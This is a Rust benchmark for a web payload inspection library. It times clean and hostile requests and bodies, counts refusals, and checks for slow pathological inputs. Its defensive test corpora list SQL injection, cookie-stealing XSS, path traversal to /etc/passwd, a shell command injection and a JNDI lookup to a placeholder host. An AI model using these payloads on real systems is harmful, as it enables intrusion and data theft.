//! How many values a second payload inspection looks at, and whether its time grows in proportion.
//!
//! `cargo bench -p security-web --bench inspect` runs over corpora made here. With `-- FILE` it takes each line of
//! the file as a value and says how many are refused, and shows the first of them with `-- FILE show`. With
//! `-- body NAME` it runs one body or request and nothing else, for a profiler.
#![allow(clippy::print_stdout, clippy::unwrap_used, reason = "a benchmark talks, and stops at a surprise")]

use std::{fs, hint::black_box, time::Instant};

use security_web::{InspectionPolicy, RequestView, inspect};

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).filter(|argument| argument != "--bench").collect();
    if let [command, name] = &arguments[..]
        && command == "body"
    {
        for (_, content_type, body) in bodies().iter().filter(|(known, ..)| known == name) {
            (0..20).for_each(|_| _ = black_box(refused_body(content_type, body)));
        }
        for (_, request) in requests().iter().filter(|(known, _)| known == name) {
            (0..1000).for_each(|_| _ = black_box(refused(request)));
        }
        return;
    }
    if let Some(file) = arguments.first() {
        return judge_file(file, arguments.len() > 1);
    }
    println!("one request                    µs each");
    for (name, request) in requests() {
        let figure = best(|| refused(&request));
        println!("{name:30} {:8.2}", figure * 1e6);
    }
    println!("\ncorpus             values/s      MB/s   refused");
    for (name, values) in [("innocent", &innocent()), ("hostile", &hostile())] {
        rate(name, values);
    }
    println!("\nbodies of 128 KiB     MB/s");
    for (name, content_type, body) in bodies() {
        let each = best(|| refused_body(content_type, &body));
        println!("{name:16} {:9.0}", body.len() as f64 / each / 1e6);
    }
    println!("\nbodies of 256 KiB, with the budgets of a new policy     ms   reasons");
    for (name, content_type, body) in holds() {
        let headers = [("content-type", content_type.as_bytes())];
        let request =
            RequestView { path: "/", headers: &headers, body: Some(&body), ..RequestView::default() };
        let look = || inspect(&InspectionPolicy::default(), &request);
        println!("{name:50} {:8.2} {:6}", best(look) * 1e3, look().reasons.len());
    }
    println!("\nns a byte, by size of one value      4 KiB   64 KiB    1 MiB   growth from 64 KiB to 1 MiB");
    for (name, unit) in GENERATORS {
        let figures: Vec<f64> = [4usize, 64, 1024]
            .iter()
            .map(|size| {
                let value: String = unit.chars().cycle().take(size << 10).collect();
                best(|| refused_body("text/plain", value.as_bytes())) / value.len() as f64 * 1e9
            })
            .collect();
        let growth = figures[2] * 16.0 / figures[1];
        println!("{name:34} {:8.2} {:8.2} {:8.2}   {growth:6.1}", figures[0], figures[1], figures[2]);
    }
}

/// Seconds that one call takes: the fastest of many short runs, which neighbours on the machine disturb least.
fn best<T>(mut call: impl FnMut() -> T) -> f64 {
    let mut timed = |n_calls: u32| {
        let started = Instant::now();
        (0..n_calls).for_each(|_| _ = black_box(call()));
        started.elapsed().as_secs_f64()
    };
    let mut n_calls = 1u32;
    let mut taken = timed(1);
    while taken < 0.0002 && n_calls < 1 << 20 {
        n_calls *= 2;
        taken = timed(n_calls);
    }
    let n_runs = if taken > 0.05 { 5 } else { 60 };
    (0..n_runs).map(|_| timed(n_calls) / f64::from(n_calls)).fold(f64::INFINITY, f64::min)
}

/// Queries of about 200 bytes, as applications send them.
fn requests() -> [(&'static str, String); 4] {
    let clean = "id=550e8400-e29b-41d4-a716-446655440000&page=2&sort=created&order=desc&limit=50&lang=en&currency=eur&\
                 theme=dark&view=grid&tab=reviews&ref=newsletter&campaign=spring2024&session=9f86d081884c7d659a2f";
    let text = "q=It%27s+a+long+search+for+%22select+shoes%22+from+the+list+(size+10+or+11)&next=https%3A%2F%2Fexample.com\
                %2Fa%3Fb%3Dc&price=5..10&name=O%27Brien&filter[tags]=a,b&sort=-price&email=ann%40example.com";
    let prose = "q=a+quiet+sentence+about+nothing+in+particular+that+somebody+typed+into+a+field+of+a+form+while+waiting+for+\
                 the+train+to+arrive+at+the+station+on+a+grey+day+in+autumn+with+a+little+rain+and+no+umbrella+x";
    let attack = "q=1%27+union+select+username%2C+password+from+users+where+1%3D1--+&a=1&b=2&c=3&page=2&sort=created&\
                  order=desc&limit=50&lang=en&currency=eur&theme=dark&view=grid&tab=reviews&ref=newsletter&x=abc";
    [
        ("clean, 200 bytes", clean.into()),
        ("text, 200 bytes", text.into()),
        ("prose, 200 bytes", prose.into()),
        ("attack, 200 bytes", attack.into()),
    ]
}

/// Bodies of 128 KiB.
fn bodies() -> [(&'static str, &'static str, Vec<u8>); 6] {
    const SIZE: usize = 128 << 10;
    let filled = |unit: &dyn Fn(usize) -> String| -> String {
        let mut text = String::new();
        for n in 0.. {
            if text.len() >= SIZE {
                break;
            }
            text.push_str(&unit(n));
        }
        text
    };
    let sentence =
        "It was a grey day in autumn, and the train (number 5) wasn't on time; we waited at the station. ";
    let item = |n: usize| {
        format!(
            "{{\"id\": {n}, \"name\": \"Ann O'Brien\", \"price\": 12.5, \"tags\": [\"a\", \"b\"], \"note\": \"{sentence}\"}},\n"
        )
    };
    let html = |n: usize| {
        format!("<p style=\"margin:0\">{sentence}</p>\n<a href=\"https://example.com/{n}\">more</a>\n")
    };
    let part = |n: usize| {
        format!("--B\r\nContent-Disposition: form-data; name=\"f{n}\"\r\n\r\n{}\r\n", sentence.repeat(4))
    };
    [
        ("JSON", "application/json", format!("[{}0]", filled(&item)).into_bytes()),
        (
            "form",
            "application/x-www-form-urlencoded",
            filled(&|n| format!("f{n}={}&", encoded(sentence))).into_bytes(),
        ),
        ("multipart", "multipart/form-data; boundary=B", (filled(&part) + "--B--\r\n").into_bytes()),
        ("prose", "text/plain", filled(&|_| sentence.into()).into_bytes()),
        (
            "plain words",
            "text/plain",
            filled(&|_| "a quiet sentence about nothing in particular, ".into()).into_bytes(),
        ),
        (
            "HTML in JSON",
            "application/json",
            serde_json::json!({"html": filled(&html)}).to_string().into_bytes(),
        ),
    ]
}

/// Documents that hold a thread for as long as they can.
fn holds() -> Vec<(String, &'static str, Vec<u8>)> {
    const SIZE: usize = 256 << 10;
    const JSON: &str = "application/json";
    let strings = |value: &str| {
        let item = serde_json::json!(value).to_string() + ",";
        format!("[{}0]", item.repeat((SIZE - 4) / item.len())).into_bytes()
    };
    let mut holds: Vec<(String, &'static str, Vec<u8>)> = [
        ("attacks of SQL", "1' union select username, password from users where 1=1-- x"),
        ("long attacks of SQL", "1' and (select ascii(substr(password,1,1)) from users limit 1)>64 and 'a'='a' or extractvalue(1,concat(0x7e,user()))-- and some more text"),
        ("attacks of XSS", "<img src=x onerror=alert(document.cookie)>"),
        ("suspicious, and no attack", "it's user's or '5' and the like, by name; (or not) = x, or y -- well, 'perhaps' or \"not\" group"),
        ("half an attack", "' or name and a - b and order by c like d or e '"),
        ("base64", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiB4IHggeCB4IHggeCB4IHggeCB4IHg="),
    ]
    .into_iter()
    .map(|(name, value)| (format!("JSON of {name}"), JSON, strings(value)))
    .collect();
    for (name, unit) in GENERATORS {
        holds.push((name.into(), "text/plain", unit.bytes().cycle().take(SIZE).collect()));
    }
    holds
}

/// One value repeated until it is long: what is meant to be slow.
const GENERATORS: [(&str, &str); 23] = [
    ("words", "a quiet sentence about nothing "),
    ("quotes", "'"),
    ("double quotes", "\""),
    ("backslashes", "\\"),
    ("open comments", "/*"),
    ("comments", "/**/"),
    ("executed comments", "/*!"),
    ("open tags", "<"),
    ("comments of HTML", "<!--"),
    ("CDATA", "<![CDATA["),
    ("percent", "%"),
    ("percent percent", "%25"),
    ("references", "&#0000000000000000"),
    ("parents", "../"),
    ("braces", "{{"),
    ("open templates", "{{a(("),
    ("look-ups", "${"),
    ("or 1", " or 1"),
    ("semicolons", "; "),
    ("commands", "|c'a't "),
    ("brackets", "("),
    ("dollars", "$a$"),
    ("on", " on"),
];

fn refused_body(content_type: &str, value: &[u8]) -> bool {
    let headers = [("content-type", content_type.as_bytes())];
    let request = RequestView { path: "/", headers: &headers, body: Some(value), ..RequestView::default() };
    inspect(
        &InspectionPolicy { max_bytes: 4 << 20, max_parameters: 100_000, ..InspectionPolicy::default() },
        &request,
    )
    .is_denied
}

fn refused(query: &str) -> bool {
    inspect(&InspectionPolicy::default(), &RequestView { path: "/", query, ..RequestView::default() })
        .is_denied
}

/// Each value alone, as a request would bring it.
fn rate(name: &str, values: &[String]) {
    let bytes: usize = values.iter().map(String::len).sum();
    let refused_ones = values.iter().filter(|value| refused(value)).count();
    let seconds = best(|| values.iter().filter(|value| black_box(refused(value))).count());
    let per_second = values.len() as f64 / seconds;
    let megabytes = bytes as f64 / seconds / 1e6;
    println!("{name:12} {per_second:14.0} {megabytes:9.1} {refused_ones:5} of {}", values.len());
}

fn judge_file(file: &str, shows: bool) {
    let text = fs::read(file).unwrap();
    let values: Vec<String> = text
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.trim_ascii().is_empty())
        .map(|line| format!("value={}", encoded(&String::from_utf8_lossy(line))))
        .collect();
    let mut n_refused = 0;
    for value in &values {
        let request = RequestView { path: "/", query: value, ..RequestView::default() };
        let found = inspect(&InspectionPolicy::default(), &request);
        if found.is_denied {
            n_refused += 1;
        }
        if shows && found.is_denied && n_refused <= 200 {
            let ids: Vec<&str> = found.reasons.iter().map(|reason| reason.id.as_ref()).collect();
            println!("{} {}", ids.join(","), found.reasons[0].evidence);
        }
    }
    println!("{n_refused} of {} refused", values.len());
    rate("file", &values);
}

fn encoded(text: &str) -> String {
    let mut out = String::from("q=");
    for byte in text.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => out.push(char::from(byte)),
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
    }
    out.split_off(2)
}

fn innocent() -> Vec<String> {
    let mut values = Vec::new();
    for n in 0..500 {
        values.extend([
            format!("id={}", n * 7919),
            format!("q={}", encoded(&format!("a plan for number {n}"))),
            format!("email=user{n}%40example.com"),
            format!("name=O%27Brien+{n}"),
            format!("next=https%3A%2F%2Fexample.com%2Fpage%2F{n}%3Fa%3Db"),
            format!("token={:032x}", u128::from(n as u64 + 1) * 0x1234_5678_9abc_def0_1234_5678),
            format!("date=2024-01-{:02}T12%3A00%3A00Z", n % 28 + 1),
            format!("text={}", encoded(&format!("It's {n} o'clock; shall we meet (or not) at the corner?"))),
        ]);
    }
    values
}

fn hostile() -> Vec<String> {
    let mut values = Vec::new();
    for n in 0..500 {
        for attack in [
            format!("{n}' or '{n}'='{n}"),
            format!("{n} union select {n},2,3--"),
            format!("<script>alert({n})</script>"),
            format!("<img src={n} onerror=alert({n})>"),
            "../".repeat(n % 8 + 2) + "etc/passwd",
            format!("; cat /etc/hosts{n}"),
            format!("{{{{{n}*7}}}}"),
            format!("${{jndi:ldap://x{n}.example/a}}"),
        ] {
            values.push(format!("q={}", encoded(&attack)));
        }
    }
    values
}
